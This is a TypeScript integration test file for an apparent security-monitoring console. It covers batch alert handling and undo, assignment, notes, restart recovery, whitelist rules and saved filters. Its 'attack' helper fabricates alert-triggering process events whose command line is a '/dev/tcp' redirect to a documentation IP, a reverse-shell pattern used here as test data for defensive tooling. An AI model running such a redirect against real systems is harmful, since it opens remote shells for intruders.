/** Many alerts at once and whitelist rules, over real HTTP with a real agent: what is done, counted, refused, undone. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { type Answer, TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'

const model = '5b3c1f3e-0001-4000-8000-000000000001'
let shared: TestServer
let admin: TestConsole
let agent: TestAgent
let sequence = 0

before(async () => {
  shared = await startTestServer()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' })
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
})
after(async () => {
  agent.cut()
  await shared?.end()
})

/** One alert for each command line; the same again joins. */
async function attack(...words: string[]): Promise<void> {
  const events = words.map((word, index) =>
    agent.started(sequence * 1000 + index + 1, `${word} >& /dev/tcp/198.51.100.1/1`, 4242, `/opt/${word}`),
  )
  sequence++
  await agent.deliver(sequence, events)
}

async function listed(query: string): Promise<{ id: string; version: number; state: string; hits: number }[]> {
  return (await admin.call('listAlerts', { query })).body.items
}

async function untilDone(started: Answer): Promise<Answer['body']> {
  assert.equal(started.status, 200, JSON.stringify(started.body))
  for (;;) {
    const { body } = await admin.call('getBatch', { id: started.body.id })
    if (body.state !== 'running') return body
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}

test('a batch handles what a filter finds, says what became of each, and is undone as one', async () => {
  await attack(...Array.from({ length: 230 }, (_, index) => `batch-${index}`))
  const before = await listed('q=batch-&limit=500')
  assert.equal(before.length, 230)
  const [other] = before
  assert.ok(other)
  const seen: string[] = []
  const live = await admin.stream((name, data) => {
    if (name === 'batch.progress') seen.push((data as { state: string }).state)
  })
  const batch = await untilDone(
    await admin.call('startBatch', { body: { operation: 'ignore', filter: { q: 'batch-' }, note: 'a test' } }),
  )
  assert.deepEqual([batch.state, batch.total, batch.done, batch.undoable], ['done', 230, 230, true])
  assert.ok(seen.includes('done'), 'progress was told')
  await live.stop()
  assert.equal((await listed('q=batch-&limit=1')).length, 0)

  // Somebody thinks otherwise about one of them: undoing the batch leaves that one alone.
  const now = (await listed(`handled=all&q=batch-&limit=500`)).find((one) => one.id === other.id)
  const reopen = { operation: 'reopen', version: now?.version ?? 0 }
  assert.equal((await admin.call('handleAlert', { id: other.id, body: reopen })).status, 200)
  const undone = await untilDone(await admin.call('undoBatch', { id: batch.id }))
  assert.deepEqual([undone.done, undone.changed, undone.undoes], [229, 1, batch.id])
  assert.equal((await listed('q=batch-&limit=500')).length, 230)
  const items = (await admin.call('listBatchItems', { id: undone.id, query: 'outcome=changed' })).body
  assert.deepEqual([items.total, items.items[0].alertId], [1, other.id])
  assert.match(items.items[0].reason, /admin was first: reopen/)
  assert.equal((await admin.call('undoBatch', { id: batch.id })).body.code, 'batch.not-undoable')
})

test('a batch of chosen alerts goes by the versions that were seen', async () => {
  await attack('chosen-1', 'chosen-2')
  const [first, second] = await listed('q=chosen-')
  assert.ok(first && second)
  await admin.call('handleAlert', {
    id: first.id,
    body: { operation: 'assign', assignee: 'admin', version: first.version },
  })
  const alerts = [first, second].map(({ id, version }) => ({ id, version }))
  const batch = await untilDone(await admin.call('startBatch', { body: { operation: 'false positive', alerts } }))
  assert.deepEqual([batch.done, batch.changed], [1, 1])
  const again = await untilDone(
    await admin.call('startBatch', { body: { operation: 'false positive', filter: { handled: 'all', q: 'chosen-' } } }),
  )
  assert.deepEqual([again.done, again.refused], [1, 1])
  const none = await admin.call('startBatch', {
    body: { operation: 'ignore', alerts: [{ id: 'al-none', version: 1 }] },
  })
  assert.equal(none.body.code, 'batch.empty')
})

test('alerts are assigned to users who can handle them and see the asset, and to nobody else', async () => {
  await attack('assigned-1')
  const [alert] = await listed('q=assigned-1')
  assert.ok(alert)
  for (const [name, role, groups] of [
    ['ann', 'analyst', null],
    ['vera', 'viewer', null],
    ['bound', 'analyst', ['elsewhere']],
  ] as const)
    assert.equal((await admin.call('createUser', { body: { name, role, groups: groups && [...groups] } })).status, 200)
  const { items } = (await admin.call('listAssignees')).body
  assert.deepEqual(items, [{ name: 'admin' }, { name: 'ann' }, { name: 'bound' }])
  const assign = (assignee: string) =>
    admin.call('handleAlert', { id: alert.id, body: { operation: 'assign', assignee, version: alert.version } })
  for (const name of ['vera', 'nobody-known', 'bound'])
    assert.deepEqual(
      [(await assign(name)).status, (await assign(name)).body.code],
      [400, 'alert.assignee-unknown'],
      name,
    )
  const batch = { operation: 'assign' as const, filter: { q: 'assigned-1' }, assignee: 'vera' }
  assert.equal((await admin.call('startBatch', { body: batch })).body.code, 'alert.assignee-unknown')
  assert.equal((await assign('ANN')).body.assignee, 'ann')
  assert.equal((await listed('q=assigned-1&assignee=ann')).length, 1)
})

test('a note is edited and taken away by its author alone; the history keeps it', async () => {
  await attack('noted-1')
  const [alert] = await listed('q=noted-1')
  assert.ok(alert)
  const noted = (
    await admin.call('handleAlert', { id: alert.id, body: { operation: 'add note', version: 0, note: 'one' } })
  ).body
  const entry = noted.history.at(-1).id
  const other = new TestConsole(shared.server.consoleUrl)
  const made = await admin.call('createUser', { body: { name: 'nora', role: 'analyst' } })
  await other.begin({ name: 'nora', password: made.body.password })
  const refused = await other.call('changeAlertNote', { id: alert.id, body: { entry, note: 'hers' } })
  assert.deepEqual([refused.status, refused.body.code], [403, 'alert.note-not-yours'])
  const changed = await admin.call('changeAlertNote', { id: alert.id, body: { entry, note: 'two' } })
  assert.equal(changed.status, 200)
  const removed = await admin.call('changeAlertNote', { id: alert.id, body: { entry, note: null } })
  assert.deepEqual(
    removed.body.history.slice(1).map((row: { operation: string; note: string | null }) => [row.operation, row.note]),
    [
      ['add note', null],
      ['note changed', 'one'],
      ['note removed', 'two'],
    ],
  )
  assert.equal(removed.body.noteCount, 0)
  assert.equal((await admin.call('changeAlertNote', { id: alert.id, body: { entry, note: 'x' } })).status, 409)
})

test('a batch that the server was stopped in goes on afterwards, and nothing is done twice', async () => {
  await attack(...Array.from({ length: 420 }, (_, index) => `stopped-${index}`))
  const started = await admin.call('startBatch', { body: { operation: 'ignore', filter: { q: 'stopped-' } } })
  agent.cut()
  await shared.restart()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.signIn('admin', 'a new and long password')
  const batch = await untilDone(started)
  assert.deepEqual([batch.state, batch.total, batch.done], ['done', 420, 420])
  const [one] = await listed('handled=all&q=stopped-7&limit=1')
  const { history } = (await admin.call('getAlert', { id: one?.id ?? '' })).body
  assert.equal(history.filter((entry: { operation: string }) => entry.operation === 'ignore').length, 1)
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  sequence = 0
  await agent.connect()
})

test('a whitelist rule: preview, refusal, hits, the alert it came from, disable, delete, restore', async () => {
  await attack('backup-job a', 'backup-job b', 'intruder c')
  const rows = await listed('limit=3')
  const fields = (await admin.call('whitelistFields', { id: rows[0]?.id ?? '' })).body.items
  assert.ok(fields.some((one: { field: string }) => one.field === 'process.commandLine'))
  const conditions = [{ field: 'process.commandLine', operator: 'contains', value: 'backup-job' }]
  const pattern = { conditions, about: { model }, on: 'all' }
  const preview = (await admin.call('previewWhitelistRule', { body: pattern })).body
  assert.deepEqual([preview.matched, preview.matchedOpen, preview.refusal], [2, 2, null])
  assert.ok(preview.considered >= 3 && preview.complete)
  const { entities } = (await admin.call('getAlert', { id: rows[0]?.id ?? '' })).body
  assert.ok(entities.length > 0)
  for (const { field, value } of entities) {
    const beside = { ...pattern, conditions: [{ field, operator: 'equals', value }] }
    const would = (await admin.call('previewWhitelistRule', { body: beside })).body
    assert.ok(would.matched >= 1 && would.refusal === null, `a rule from the entity in ${field} takes its alert`)
  }
  const broad = { ...pattern, conditions: [{ ...conditions[0], value: '/' }] }
  assert.equal((await admin.call('previewWhitelistRule', { body: broad })).body.refusal.code, 'whitelist.too-broad')
  const refused = await admin.call('createWhitelistRule', { body: { ...broad, reason: 'too much' } })
  assert.deepEqual([refused.status, refused.body.code], [400, 'whitelist.too-broad'])

  const alertId = preview.examples[0].id
  const body = { ...pattern, reason: 'the nightly backup', alertId, alsoMatching: true }
  const created = (await admin.call('createWhitelistRule', { body })).body
  assert.equal(created.batch.total, 2)
  await untilDone({ status: 200, body: created.batch, headers: new Headers() })
  assert.equal((await admin.call('getAlert', { id: alertId })).body.state, 'whitelisted')
  await attack('backup-job d', 'backup-job e', 'intruder f')
  const rule = async () => (await admin.call('listWhitelistRules')).body.items[0]
  assert.deepEqual([(await rule()).hits, (await rule()).state, (await rule()).madeBy], [2, 'in force', 'admin'])
  assert.equal((await admin.call('previewWhitelistRule', { body: pattern })).body.matched, 2)

  await admin.call('changeWhitelistRule', { id: created.rule.id, body: { enabled: false } })
  await attack('backup-job g')
  assert.deepEqual([(await rule()).hits, (await rule()).state], [2, 'disabled'])
  assert.equal((await admin.call('previewWhitelistRule', { body: pattern })).body.matched, 3)
  assert.equal((await admin.call('deleteWhitelistRule', { id: created.rule.id })).status, 200)
  assert.equal(await rule(), undefined)
  assert.equal((await admin.call('restoreWhitelistRule', { id: created.rule.id })).body.hits, 2)
  await shared.restart()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.signIn('admin', 'a new and long password')
  assert.equal((await rule()).hits, 2, 'a restart counts nothing again')
})

test('saved filters: own and shared ones, one to begin with', async () => {
  const save = (name: string, shared: boolean) =>
    admin.call('saveFilter', { body: { name, search: 'level=Urgent', shared } })
  const { id } = (await save('mine', false)).body
  const other = (await save('ours', true)).body.id
  assert.equal((await save('mine', false)).body.id, id, 'the same name is replaced')
  assert.equal((await admin.call('changeSavedFilter', { id, body: { name: 'ours' } })).body.code, 'filter.name-taken')
  await admin.call('changeSavedFilter', { id, body: { isDefault: true } })
  await admin.call('changeSavedFilter', { id: other, body: { isDefault: true } })
  const list = async () => (await admin.call('listSavedFilters')).body.items as { name: string; isDefault: boolean }[]
  assert.deepEqual(
    (await list()).map((one) => [one.name, one.isDefault]),
    [
      ['mine', false],
      ['ours', true],
    ],
  )
  assert.equal((await admin.call('deleteSavedFilter', { id: other })).status, 200)
  assert.deepEqual(
    (await list()).map((one) => one.name),
    ['mine'],
  )
  // Searches have names of their own, and stand in no list of filters.
  const searchBody = { name: 'mine', page: 'search', search: 'q=type%3Aprocess.started&last=7d' }
  const saved = (await admin.call('saveFilter', { body: searchBody })).body
  assert.notEqual(saved.id, id)
  const searches = async () => (await admin.call('listSavedFilters', { query: 'page=search' })).body.items
  assert.deepEqual(await searches(), [saved])
  assert.deepEqual([saved.search, saved.isDefault], [searchBody.search, false])
  assert.equal((await list()).length, 1)
  const begin = await admin.call('changeSavedFilter', { id: saved.id, body: { isDefault: true } })
  assert.deepEqual([begin.status, begin.body.code], [400, 'request.invalid'])
  assert.equal((await admin.call('deleteSavedFilter', { id: saved.id })).status, 200)
  assert.deepEqual(await searches(), [])
})
